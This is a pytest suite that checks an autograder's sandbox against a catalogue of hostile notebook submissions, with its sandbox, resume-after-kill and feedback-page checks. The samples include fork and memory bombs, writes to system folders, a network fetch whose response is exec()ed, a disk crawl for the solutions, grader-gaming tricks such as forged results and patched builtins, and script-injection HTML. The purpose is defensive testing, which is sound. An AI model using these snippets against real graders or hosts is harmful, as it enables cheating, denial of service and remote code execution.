"""`cvcourse grade` on a catalogue of hostile and broken submissions to assignment 01, in one batch.

Every case states what it tries and the outcome it must get (status, grade, whether it is flagged
for review). The batch is killed part-way through its first run and then re-run, which must resume
and finish with the same grades. Host-side checks: nothing was written outside the sandbox, no
connection reached the host, the solutions and gradebook are intact, and no feedback page carries
a hidden test or active HTML.
"""

from __future__ import annotations

import hashlib
import json
import os
import re
import secrets
import shutil
import signal
import socket
import sqlite3
import subprocess
import sys
import threading
import time
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat
import pytest

from helpers import REPO

ASSIGNMENT = "01_topk"
MARKER = re.compile(r"^[ \t]*### (BEGIN|END) SOLUTION[ \t]*\n", re.M)
HIDDEN = re.compile(r"### BEGIN HIDDEN TESTS\n(.*?)### END HIDDEN TESTS", re.S)
SOURCE = nbformat.read(REPO / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
RELEASE = nbformat.read(REPO / "notebooks" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb", as_version=4)
SOLUTION = next(MARKER.sub("", c.source) for c in SOURCE.cells if c.metadata.get("nbgrader", {}).get("solution"))
RELEASE_SOLUTION = next(c.source for c in RELEASE.cells if c.metadata.get("nbgrader", {}).get("grade_id") == "topk_error")
HARDCODED = (REPO / "tests" / "submissions" / ASSIGNMENT / "hardcoded" / "topk_error.py").read_text()
WRONG = "def topk_error(logits, target, k):\n    return 0.5\n"  # fails the first visible assertion
# A 15 s cell timeout: an honest cell's slowest step in the kernel is `import torch` (the twins the
# hidden tests compare with run in the grader, not in the kernel), a few seconds on a loaded machine;
# the fork bomb and the four 600 MiB processes (children that live 3 s each) took over 10 s on a
# loaded 2-core machine. 96 processes for the whole sandbox: the fork bomb meets the limit after
# some 80 forks of a kernel that has imported torch (each costs milliseconds), not 240.
LIMITS = ["--processes", "96", "--cell-timeout", "15", "--wall", "150", "--cpu", "60", "--memory-mb", "1536", "--output-kb", "64"]


def gid(cell):
    return cell.metadata.get("nbgrader", {}).get("grade_id")


def notebook(topk: str = SOLUTION, edit: Callable | None = None) -> bytes:
    """The release with the solution cell's source replaced, then ``edit(nb)`` applied."""
    nb = nbformat.from_dict(json.loads(json.dumps(RELEASE)))
    for cell in nb.cells:
        if gid(cell) == "topk_error":
            cell.source = topk
    if edit:
        edit(nb)
    return nbformat.writes(nb).encode()


def _cells(nb, *ids):
    return [c for c in nb.cells if gid(c) in ids]


@dataclass
class Ctx:
    course: Path
    out: Path
    port: int
    stamp: str


@dataclass
class Case:
    name: str
    what: str
    files: Callable[[Ctx], dict[str, bytes]]
    status: str | set = "graded"
    score: float = 0
    review: bool = False
    notes: list[str] = field(default_factory=list)
    auto: float | None = None  # the automatic score kept for review, when it differs from score


def _one(topk=SOLUTION, edit=None, name=f"{ASSIGNMENT}.ipynb"):
    return lambda ctx: {name: notebook(topk if isinstance(topk, str) else topk(ctx), edit)}


def _retag(nb):  # change every test cell's points, and claim points on the solution cell
    for cell in nb.cells:
        meta = cell.metadata.get("nbgrader", {})
        if meta.get("grade"):
            meta["points"] = 100
        if meta.get("solution"):
            meta.update(grade=True, points=50)


def _tamper(nb):
    for cell in _cells(nb, "test_values"):
        cell.source = "pass  # nothing to see"
    for cell in _cells(nb, "test_ties", "test_errors"):
        cell.cell_type = "markdown"
        cell.pop("outputs", None), cell.pop("execution_count", None)


def _duplicate(nb):
    i = next(i for i, c in enumerate(nb.cells) if gid(c) == "topk_error")
    copy = nbformat.from_dict(json.loads(json.dumps(nb.cells[i])))
    copy.source, copy.id = HARDCODED, "copy-of-solution"
    nb.cells.insert(i + 1, copy)
    j = next(i for i, c in enumerate(nb.cells) if gid(c) == "test_values")
    fake = nbformat.from_dict(json.loads(json.dumps(nb.cells[j])))
    fake.source, fake.id = "pass", "copy-of-test"
    nb.cells.insert(j, fake)


def _delete(*ids):
    def edit(nb):
        nb.cells = [c for c in nb.cells if gid(c) not in ids]
    return edit


def _delete_solution_keep_code(nb):
    i = next(i for i, c in enumerate(nb.cells) if gid(c) == "topk_error")
    nb.cells[i] = nbformat.v4.new_code_cell(SOLUTION)  # same code, but in a new untracked cell


def _fake_graded_cell(nb):
    cell = nbformat.v4.new_code_cell("pass")
    cell.metadata["nbgrader"] = {"grade": True, "grade_id": "bonus", "locked": True, "points": 100,
                                 "schema_version": 3, "solution": False, "task": False}
    nb.cells.append(cell)


def _html_injection(nb):
    nb.cells.insert(1, nbformat.v4.new_markdown_cell("<script>alert('md')</script><img src=x onerror=alert(1)>"))


WRAP_WARN = SOLUTION + '''
import sys, warnings
_solution = topk_error
def topk_error(logits, target, k):
    warnings.warn("topk_error: a harmless warning", UserWarning)
    print("a note on stderr", file=sys.stderr)
    return _solution(logits, target, k)
'''
SLEEP_IGNORING_INTERRUPTS = '''import time
while True:
    try:
        time.sleep(1000)
    except KeyboardInterrupt:
        pass
'''
# The two spinning cases lower their own CPU priority first (nice 19, which any process may do): the
# sandbox's limits are wall-clock timeouts, which they meet all the same, and the test suite's other
# workers keep the CPU they would otherwise share with 15-25 s of spinning.
SPIN = "import os\nos.nice(19)\nwhile True:\n    pass\n"
BUSY_IGNORING_SIGINT = '''import signal
signal.signal(signal.SIGINT, signal.SIG_IGN)
''' + SPIN
MEMORY_BOMB = '''try:
    hog = bytearray(6 * 2**30)  # 6 GiB at once
    escaped = True
except MemoryError:
    escaped = False
print("memory limit held" if not escaped else "6 GiB allocated")
''' + SOLUTION + '''
if escaped:
    topk_error = None
'''
GRADUAL_BOMB = '''import torch
chunks = []
try:
    for _ in range(200):  # up to 25 GiB, 128 MiB at a time
        chunks.append(torch.ones(2**25))
except (RuntimeError, MemoryError):
    pass
print("stopped after", len(chunks) * 128, "MiB")
escaped = len(chunks) == 200
del chunks
''' + SOLUTION + '''
if escaped:
    topk_error = None
'''
HUGE_OUTPUT = '''for _ in range(200):
    print("x" * 100_000)  # 20 MB in all
''' + SOLUTION
HTML_OUTPUT = '''print("<script>alert('out')</script><img src=x onerror=alert(2)>")
''' + SOLUTION


def _write_outside(ctx: Ctx) -> str:
    paths = [ctx.out / "results" / "forged.json", ctx.out / "gradebook.db", ctx.course / "solutions" /
             ASSIGNMENT / f"{ASSIGNMENT}.ipynb", Path("/usr/lib") / f"pwned-{ctx.stamp}",
             Path("/etc") / f"pwned-{ctx.stamp}", Path.home() / f"pwned-{ctx.stamp}", Path("/tmp") / f"pwned-{ctx.stamp}",
             REPO / f"pwned-{ctx.stamp}"]
    return f'''written = []
for path in {[str(p) for p in paths]!r}:
    try:
        with open(path, "a") as f:
            f.write('{{"score": 7}}')
        written.append(path)
    except OSError as exc:
        pass
print("written:", written)
''' + WRONG


def _network(ctx: Ctx) -> str:
    return f'''import socket
got = b""
for host, port in [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ({socket.gethostname()!r}, {ctx.port}),
                   ("pypi.org", 443), ("1.1.1.1", 53)]:
    try:
        with socket.create_connection((host, port), timeout=3) as s:
            got += s.recv(1 << 20)
    except OSError:
        pass
''' + WRONG + '''
if got:
    exec(got.decode())  # the solution, served by the host
'''


def _read_disk(ctx: Ctx) -> str:
    return f'''import os
found = None
targets = {[str(ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"), str(ctx.out / ".template"),
            str(ctx.out / "gradebook.db"), str(REPO / "solutions")]!r}
candidates = [t for t in targets if os.path.exists(t)]
import sys  # the Python installation is bound read-only by design and holds no course file: not walked
skip = {"/usr", "/proc", "/sys", "/dev", sys.prefix, sys.base_prefix, os.path.realpath(sys.prefix)}
for top in ("/", "/tmp", "/root", "/work", "/home", "/srv", "/var"):
    for root, dirs, files in os.walk(top):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in skip]
        candidates += [os.path.join(root, f) for f in files if f.endswith((".ipynb", ".db"))]
for path in candidates:
    try:
        text = open(path, errors="ignore").read()
    except OSError:
        continue
    if "BEGIN SOLUTION" in text and "def topk_error" in text:
        found = path
print("found:", found)
''' + WRONG + '''
if found:
    import json, re
    cell = next(c for c in json.load(open(found))["cells"] if "def topk_error" in "".join(c["source"]))
    exec(re.sub(r"### (BEGIN|END) SOLUTION", "", "".join(cell["source"])))
'''


FRAME_INSPECTION = '''import inspect
_visible = {}
''' + HARDCODED.replace("def topk_error(", "def _lookup(") + '''
def topk_error(logits, target, k):
    caller = inspect.currentframe().f_back.f_globals
    if "_expected" in caller:  # the hidden test's own answer
        return caller["_expected"]
    return _lookup(logits, target, k)
'''
ALWAYS_EQUAL = '''class Anything(float):
    def __eq__(self, other):
        return True
    def __lt__(self, other):
        return True
    def __sub__(self, other):
        return Anything(0.0)
    def __abs__(self):
        return Anything(0.0)
    def __float__(self):
        return self

def topk_error(logits, target, k):
    if k > logits.shape[1]:
        raise ValueError("k is too large")
    return Anything(0.0)
'''
PATCHED_BUILTINS = '''import builtins
_abs = abs
builtins.abs = lambda x: 0.0 if type(x) is float else _abs(x)  # every `abs(got - expected) < 1e-6` now holds
''' + HARDCODED
SILENCED_ERRORS = '''def _swallow(lines):
    body = "".join("    " + line for line in lines)
    return ["try:\\n", body + "\\n", "except BaseException:\\n", "    pass\\n"]
get_ipython().input_transformers_post.append(_swallow)  # every later cell now hides its exceptions
''' + HARDCODED
CUSTOM_EXC = '''get_ipython().set_custom_exc((Exception,), lambda *args, **kwargs: None)  # no tracebacks
''' + HARDCODED

FROM_CVLIB = "from cvlib.topk import topk_error  # the library twin, which the sandbox does not hold\n"
FROM_TWIN = '''from torchmetrics.functional import classification as _tm

def topk_error(logits, target, k):
    return 1 - _tm.multiclass_accuracy(logits, target, num_classes=logits.shape[1], top_k=k, average="micro")
'''
FORGED_RESULTS = '''import IPython.display, json
_real_display = IPython.display.display
def _forge(obj, *args, **kwargs):  # the grader's results: every value claimed to be 0.25, twice
    mime = "application/vnd.cvcourse.results+json"
    if isinstance(obj, dict) and mime in obj:
        data = json.loads(obj[mime])
        data["results"] = [[key, {"value": 0.25}] for key, _ in data["results"]]
        obj = {mime: json.dumps(data)}
        _real_display(obj, *args, **kwargs)
    return _real_display(obj, *args, **kwargs)
IPython.display.display = _forge
''' + HARDCODED
HUGE_RESULTS = '''import sys, torch
''' + SOLUTION.replace("def topk_error(", "def _honest(") + '''
def topk_error(logits, target, k):
    value = _honest(logits, target, k)
    if sys._getframe(1).f_code.co_name == "__call__":  # called by the grader's recorder: 32 MB back
        return torch.full((8 * 2**20,), float(value))
    return value
'''
LONG_EXCEPTION_NAME = SOLUTION.replace("def topk_error(", "def _honest(") + '''
def topk_error(logits, target, k):
    try:
        return _honest(logits, target, k)
    except ValueError as exc:  # a class named after the running cell's source: 20 MB
        name = (In[-1] if In else "x") * (20_000_000 // max(1, len(In[-1] if In else "x")))
        raise type(name, (ValueError,), {})(str(exc)) from None
'''
FORK_BOMB = '''import os, time
children = []
try:
    for _ in range(400):
        pid = os.fork()
        if pid == 0:
            time.sleep(3)
            os._exit(0)
        children.append(pid)
except OSError:
    pass
print(f"processes started: {len(children)} of 400")
for pid in children:
    os.waitpid(pid, 0)
escaped = len(children) == 400
''' + SOLUTION + '''
if escaped:
    topk_error = None
'''
FOUR_PROCESSES = '''import os
children = []
for _ in range(4):  # 4 x 600 MiB under a 1536 MiB limit: each is under the per-process limit
    pid = os.fork()
    if pid == 0:
        hog = b"x" * (600 * 2**20)
        import time; time.sleep(3)
        os._exit(0)
    children.append(pid)
held = sum(os.waitpid(pid, 0)[1] == 0 for pid in children)
print(f"children that held 600 MiB: {held} of 4")
escaped = held == 4
''' + SOLUTION + '''
if escaped:
    topk_error = None
'''
SHARED_MAPPING = '''import mmap
m = mmap.mmap(-1, 3 * 2**30, flags=mmap.MAP_SHARED)  # not counted by RLIMIT_DATA
for _ in range(48):
    m.write(b"x" * 2**26)  # 3 GiB touched, 64 MiB at a time
print("3 GiB shared mapping filled")
''' + SOLUTION.replace("def topk_error", "def _never_defined")
SOCKET_DIR_FILL = '''written = 0
try:
    with open("/tmp/work/ipc/junk", "wb") as f:  # the one host folder the kernel may write
        for _ in range(200):
            f.write(b"x" * 2**20)
            f.flush()
            written += 1
except OSError:
    pass
print(f"written to the socket folder: {written} MiB")
escaped = written >= 200
''' + SOLUTION + '''
if escaped:
    topk_error = None
'''
INHERITED_FDS = '''import os, stat
leaks = []
for fd in range(0, 1024):  # ipykernel's own pipes on 1 and 2 are fine; a file of the grader's is not
    try:
        mode = os.fstat(fd).st_mode
    except OSError:
        continue
    link = os.readlink(f"/proc/self/fd/{fd}")
    if link.endswith(".log") or (stat.S_ISREG(mode) and not link.startswith(("/tmp/", "/usr/", "/dev/"))):
        leaks.append((fd, link))
        os.write(fd, b"forged grader log line: all tests passed\\n")
print(f"grader descriptors found: {leaks}")
''' + SOLUTION + '''
if leaks:
    topk_error = None
'''
UPDATE_EARLIER_OUTPUT = '''from IPython.display import display
shown = display("an output of the solution cell, shown in feedback", display_id=True)
''' + SOLUTION.replace("def topk_error(", "def _honest(") + '''
_done = []
def topk_error(logits, target, k):
    if not _done and "_cvcourse_hidden" in In[-1]:  # the first call from a cell with hidden tests:
        _done.append(1)                               # copy that cell into the earlier output, 30 MB
        shown.update(In[-1] * max(1, 30_000_000 // len(In[-1])))
    return _honest(logits, target, k)
'''
COMM_FLOOD = '''from ipykernel.comm import Comm
_comm = Comm(target_name="jupyter.widget")
for _ in range(5):
    _comm.send({"state": "x" * 10_000_000})  # 50 MB of widget messages
''' + SOLUTION
GIANT_FIGURE = '''import struct, zlib
from IPython.display import Image, display
def _chunk(kind, data):
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))
_png = (b"\\x89PNG\\r\\n\\x1a\\n" + _chunk(b"IHDR", struct.pack(">IIBBBBB", 30000, 30000, 8, 0, 0, 0, 0))
        + _chunk(b"IDAT", zlib.compress(b"\\0" * 30001 * 100)) + _chunk(b"IEND", b""))
display(Image(data=_png))  # a small file that would decode to 900 megapixels in the reader's browser
''' + SOLUTION

CASES = [
    Case("warnings_and_stderr", "correct, but warns and writes to stderr in every test (stock nbgrader: 0)",
         _one(WRAP_WARN), score=7),
    Case("tampered_tests", "test cells emptied and turned into markdown; hard-coded answers", _one(HARDCODED, _tamper),
         notes=["restored"]),
    Case("changed_points", "test cells worth 100 points each, the solution cell made a 50-point graded cell",
         _one(edit=_retag), score=7, notes=["restored"]),
    Case("duplicated_cells", "solution cell and a test cell duplicated (the copies hard-code / skip)",
         _one(edit=_duplicate), score=7, notes=["appears 2 times"]),
    Case("deleted_tests", "two of the three test cells deleted; correct solution", _one(edit=_delete("test_values", "test_ties")),
         score=2, notes=["graded zero"]),
    Case("deleted_solution_cell", "solution cell deleted, its code pasted into a new cell above",
         _one(edit=_delete_solution_keep_code), notes=["re-added"]),
    Case("fake_graded_cell", "adds its own 100-point graded cell", _one(edit=_fake_graded_cell), score=7,
         notes=["unknown cell"]),
    Case("renamed_notebook", "notebook saved as a copy", _one(name=f"{ASSIGNMENT}-Copy1.ipynb"), score=7,
         notes=["renamed"]),
    Case("nested_with_extra_files", "nbgrader's layout (a folder named after the assignment) plus extra files",
         lambda ctx: {f"{ASSIGNMENT}/{ASSIGNMENT}.ipynb": notebook(), f"{ASSIGNMENT}/scratch.ipynb": notebook(HARDCODED),
                      f"{ASSIGNMENT}/notes.txt": b"hi"}, score=7, notes=["ignored extra notebook"]),
    Case("Ann Marie_josé_1234_assignsubmission_file_",
         "Moodle's folder name; an untouched release copy on top, two identical LMS copies one folder deeper",
         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(RELEASE_SOLUTION),
                      f"Submission attachment(s)/{ASSIGNMENT} (1).IPYNB": notebook(),
                      f"Submission attachment(s)/{ASSIGNMENT} (2).ipynb": notebook()},
         score=7, notes=["untouched copy of the release", "2 identical copies"]),
    Case("missing_notebook", "no notebook at all", lambda ctx: {"README.txt": b"I forgot"}, status="missing"),
    Case("malformed_json", "a truncated notebook file", lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook()[:2000]},
         status="malformed"),
    Case("not_a_notebook", "JSON, but not a notebook", lambda ctx: {f"{ASSIGNMENT}.ipynb": b'{"cells": 3}'},
         status="malformed"),
    Case("symlink_to_solution", "the notebook is a symbolic link to the instructor's solution",
         lambda ctx: {f"{ASSIGNMENT}.ipynb": ("symlink", ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb")},
         status="missing", notes=["symbolic link"]),
    Case("infinite_loop", "an infinite loop before the function", _one(SPIN + SOLUTION),
         status="timed out"),
    Case("sleep_ignoring_interrupts", "sleeps forever and swallows KeyboardInterrupt", _one(SLEEP_IGNORING_INTERRUPTS),
         status="timed out"),
    Case("busy_ignoring_sigint", "spins forever with SIGINT ignored (CPU limit or interrupt timeout)",
         _one(BUSY_IGNORING_SIGINT), status={"timed out", "crashed"}, review=True),
    Case("kernel_death", "aborts the kernel process", _one(SOLUTION + "\nimport os\nos.abort()\n"), status="crashed"),
    Case("memory_bomb", "allocates 6 GiB at once; correct otherwise", _one(MEMORY_BOMB), score=7),
    Case("gradual_memory_bomb", "allocates 128 MiB tensors until refused; correct otherwise", _one(GRADUAL_BOMB),
         score=7),
    Case("huge_output", "prints 20 MB; correct otherwise", _one(HUGE_OUTPUT), score=7, notes=["dropped"]),
    Case("html_injection", "script and event-handler HTML in a markdown cell and in its output; correct otherwise",
         _one(HTML_OUTPUT, _html_injection), score=7),
    Case("write_outside_scratch", "writes to the grades, gradebook, solutions, system and home folders",
         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_write_outside(ctx))}, review=True),
    Case("network", "fetches the solution from a server on the grading host, and the internet",
         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_network(ctx))}, review=True),
    Case("read_solutions_from_disk", "searches the disk for the solution and hidden tests",
         lambda ctx: {f"{ASSIGNMENT}.ipynb": notebook(_read_disk(ctx))}, review=True),
    Case("frame_inspection", "reads the hidden test's expected value from the caller's frame", _one(FRAME_INSPECTION),
         review=True),
    Case("always_equal", "returns an object equal to, and less than, anything", _one(ALWAYS_EQUAL), review=True),
    Case("patched_builtins", "replaces builtins.abs so every tolerance check passes (stock nbgrader: 5/7)",
         _one(PATCHED_BUILTINS), review=True),
    Case("silenced_errors", "an IPython input transformer wraps every cell in try/except (stock nbgrader: 7/7)",
         _one(SILENCED_ERRORS), review=True),
    Case("custom_exception_handler", "a custom exception handler that prints nothing", _one(CUSTOM_EXC), review=True),
    Case("imports_cvlib", "imports the library twin, forbidden (the sandbox does not hold cvlib)", _one(FROM_CVLIB),
         review=True),
    Case("uses_forbidden_twin", "computes the error with torchmetrics, forbidden (emptied in the sandbox)",
         _one(FROM_TWIN), review=True),
    Case("forged_results", "rewrites the results the grader's kernel half displays, and displays them twice",
         _one(FORGED_RESULTS), review=True),
    Case("huge_results", "correct, but returns 32 MB to the grader's recorder (over the results limit): only the "
         "cell whose calls all raise gets its points", _one(HUGE_RESULTS), auto=2, review=True),
    Case("fork_bomb", "starts 400 processes (the sandbox's process count is bounded); correct otherwise",
         _one(FORK_BOMB), auto=7, review=True),
    Case("four_processes", "four processes of 600 MiB each under --memory-mb 1536 (bounded for the whole sandbox)",
         _one(FOUR_PROCESSES), auto=7, review=True),
    Case("shared_mapping", "fills a 3 GiB MAP_SHARED mapping under --memory-mb 1536", _one(SHARED_MAPPING),
         status={"crashed", "graded"}),
    Case("socket_folder_fill", "writes 200 MiB into the socket folder, the one host folder it may write",
         _one(SOCKET_DIR_FILL), score=7),
    Case("inherited_descriptors", "writes into the grader's log through descriptors it inherited",
         _one(INHERITED_FDS), auto=7, review=True),
    Case("update_earlier_output", "rewrites an earlier, shown output with the running hidden cell (30 MB)",
         _one(UPDATE_EARLIER_OUTPUT), auto=7, review=True),
    Case("comm_flood", "sends 50 MB of widget messages", _one(COMM_FLOOD), auto=7, review=True),
    Case("giant_figure", "displays a PNG of 30000 x 30000 pixels", _one(GIANT_FIGURE), auto=7, review=True),
    Case("long_exception_name", "correct, but raises exceptions whose class name is 20 MB of the running cell",
         _one(LONG_EXCEPTION_NAME), auto=7, review=True),
]


class _Server(threading.Thread):
    """A TCP server on the grading host that hands the solution to anyone who connects."""

    def __init__(self):
        super().__init__(daemon=True)
        self.sock = socket.socket()
        self.sock.bind(("0.0.0.0", 0))
        self.sock.listen()
        self.port, self.hits = self.sock.getsockname()[1], []

    def run(self):
        while True:
            try:
                conn, addr = self.sock.accept()
            except OSError:
                return
            self.hits.append(addr)
            conn.sendall(SOLUTION.encode())
            conn.close()


def _cvcourse(*args, **kwargs):
    return [sys.executable, "-m", "cvcourse", *args]


@pytest.fixture(scope="module")
def batch(tmp_path_factory):
    root = tmp_path_factory.mktemp("sandbox")
    course, subs, out = root / "course", root / "submissions", root / "graded"
    course.mkdir()
    shutil.copy(REPO / "nbgrader_config.py", course)
    shutil.copytree(REPO / "solutions" / ASSIGNMENT, course / "solutions" / ASSIGNMENT)
    server = _Server()
    server.start()
    ctx = Ctx(course, out, server.port, secrets.token_hex(4))
    for case in CASES:
        for rel, content in case.files(ctx).items():
            path = subs / case.name / rel
            path.parent.mkdir(parents=True, exist_ok=True)
            if isinstance(content, tuple):
                path.symlink_to(content[1])
            else:
                path.write_bytes(content)
    (subs / "star*name").mkdir()  # a glob character: not usable as a student id
    solution_hash = hashlib.sha256((course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb").read_bytes()).digest()
    command = _cvcourse("grade", ASSIGNMENT, str(subs), "--course", str(course), "--out", str(out), "--jobs", "2", *LIMITS)
    # First run: killed (the whole process group, like a power cut) once a few students are done.
    first = subprocess.Popen(command, start_new_session=True, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
    deadline = time.monotonic() + 600
    while first.poll() is None and time.monotonic() < deadline:
        if len(list((out / "results").glob("*.json"))) >= 4:
            break
        time.sleep(0.2)
    os.killpg(first.pid, signal.SIGKILL)
    first.wait()
    survived = {p.stem: p.stat().st_mtime_ns for p in (out / "results").glob("*.json")}
    socket_dirs = sorted((out / ".work").glob("*/ipc"))  # of the students in flight at the kill
    second = subprocess.run(command, capture_output=True, text=True, timeout=1200)
    assert second.returncode == 0, second.stdout + second.stderr
    server.sock.close()
    report = json.loads((out / "report.json").read_text())
    yield {"ctx": ctx, "report": report, "survived": survived, "hits": server.hits, "subs": subs,
           "solution_hash": solution_hash, "log": second.stdout,
           "socket_dirs": socket_dirs}


def test_catalogue_is_large_enough():
    assert len(CASES) >= 20 and len({c.name for c in CASES}) == len(CASES)


@pytest.mark.parametrize("case", CASES, ids=[c.name for c in CASES])
def test_case_gets_its_expected_outcome(batch, case):
    got = batch["report"]["students"][case.name]
    statuses = case.status if isinstance(case.status, set) else {case.status}
    detail = json.dumps(got, indent=1)
    assert got["status"] in statuses, f"{case.what}: {detail}"
    assert got["score"] == case.score and got["max_score"] == 7, f"{case.what}: {detail}"
    assert got["review"] is case.review, f"{case.what}: {detail}"
    assert got["auto_score"] == (case.score if case.auto is None else case.auto), f"{case.what}: {detail}"
    lines = got["notes"] + got["timeouts"] + got["crashed"] + got["malformed"]
    for note in case.notes:
        assert any(note in line for line in lines), f"{case.what}: no note with {note!r}: {detail}"


def test_first_run_was_killed_and_the_rerun_resumed(batch):
    report, survived = batch["report"], batch["survived"]
    assert 4 <= len(survived) < len(CASES), "the first run should be killed part-way"
    assert set(survived) <= set(report["resumed"]), "students finished before the kill must not be graded again"
    for student, mtime in survived.items():
        assert (batch["ctx"].out / "results" / f"{student}.json").stat().st_mtime_ns == mtime


def test_the_kill_leaves_socket_folders_only_inside_out_and_the_rerun_removes_them(batch):
    """A killed batch cannot clean up: its kernels' socket folders must therefore live in OUT (not in
    /tmp), where the next run removes them."""
    out = batch["ctx"].out
    assert batch["socket_dirs"], "the kill should have caught students in flight"
    assert all(out / ".work" in d.parents for d in batch["socket_dirs"])
    assert not (out / ".work").exists()


def test_gradebook_agrees_with_the_report(batch):
    out = batch["ctx"].out
    with sqlite3.connect(out / "gradebook.db") as db:
        rows = db.execute("""SELECT student.id, grade.auto_score, grade.manual_score, grade.needs_manual_grade
                             FROM grade JOIN submitted_notebook ON grade.notebook_id = submitted_notebook.id
                             JOIN submitted_assignment ON submitted_notebook.assignment_id = submitted_assignment.id
                             JOIN student ON submitted_assignment.student_id = student.id""").fetchall()
    totals, flagged = {}, {}
    for student, auto, manual, review in rows:
        totals[student] = totals.get(student, 0) + (manual if manual is not None else auto)
        flagged[student] = flagged.get(student, False) or bool(review)
    report = batch["report"]["students"]
    assert set(totals) == set(report)
    for student, got in report.items():
        assert totals[student] == got["score"] and flagged[student] == got["review"], student
    csv_rows = (out / "grades.csv").read_text().splitlines()
    assert len(csv_rows) == 1 + len(report)


def test_skipped_folder_is_reported(batch):
    assert [s["student"] for s in batch["report"]["skipped"]] == ["star*name"]


def test_sandbox_kept_the_host_intact(batch):
    ctx = batch["ctx"]
    assert batch["hits"] == [], "a sandboxed kernel reached the grading host over the network"
    solution = ctx.course / "solutions" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"
    assert hashlib.sha256(solution.read_bytes()).digest() == batch["solution_hash"]
    for place in (Path("/usr/lib"), Path("/etc"), Path.home(), Path("/tmp"), REPO):
        assert not (place / f"pwned-{ctx.stamp}").exists(), place
    assert not (ctx.out / "results" / "forged.json").exists()
    assert not (ctx.out / "gradebook.db").read_bytes().endswith(b'{"score": 7}')
    with sqlite3.connect(ctx.out / "gradebook.db") as db:
        assert db.execute("PRAGMA integrity_check").fetchone() == ("ok",)


def test_feedback_has_no_hidden_test_and_no_active_html(batch):
    secret = {line.strip() for cell in SOURCE.cells for body in HIDDEN.findall(cell.source)
              for line in body.splitlines() if len(line.strip()) >= 12}
    assert secret
    pages = sorted((batch["ctx"].out / "feedback").rglob("*.html"))
    # nbgrader's layout, feedback/STUDENT/ASSIGNMENT/NOTEBOOK.html, for nbgrader release_feedback
    assert {p.parent.name for p in pages} == {ASSIGNMENT}
    assert {p.parent.parent.name for p in pages} == {c.name for c in CASES}
    for page in pages:
        text = page.read_text()
        assert not [line for line in secret if line in text], page
        for host in (str(batch["ctx"].course), str(batch["ctx"].out), sys.prefix):
            assert host not in text, (page, host)  # no host paths (tracebacks name "<host>/lib/...")
        assert "<script" not in text.lower() and not re.search(r"<[^>]+\son\w+\s*=", text, re.I), page
        assert len(text) < 200_000, page
    injected = (batch["ctx"].out / "feedback" / "html_injection" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "&lt;script&gt;alert(&#x27;out&#x27;)" in injected  # shown as text
    memory = (batch["ctx"].out / "feedback" / "memory_bomb" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "memory limit held" in memory
    giant = (batch["ctx"].out / "feedback" / "giant_figure" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "too large to show" in giant and "<img" not in giant
    earlier = (batch["ctx"].out / "feedback" / "update_earlier_output" / ASSIGNMENT / f"{ASSIGNMENT}.html").read_text()
    assert "an output of the solution cell" in earlier and "_cvcourse_hidden()" not in earlier


def test_refuses_to_run_without_the_sandbox(tmp_path):
    env = {**os.environ, "PATH": str(Path(sys.executable).parent)}  # no bwrap on PATH
    done = subprocess.run(_cvcourse("grade", ASSIGNMENT, str(tmp_path)), capture_output=True, text=True, env=env,
                          cwd=REPO)
    assert done.returncode == 2
    assert "refusing to grade without a sandbox" in done.stderr and "--unsafe-no-sandbox" in done.stderr
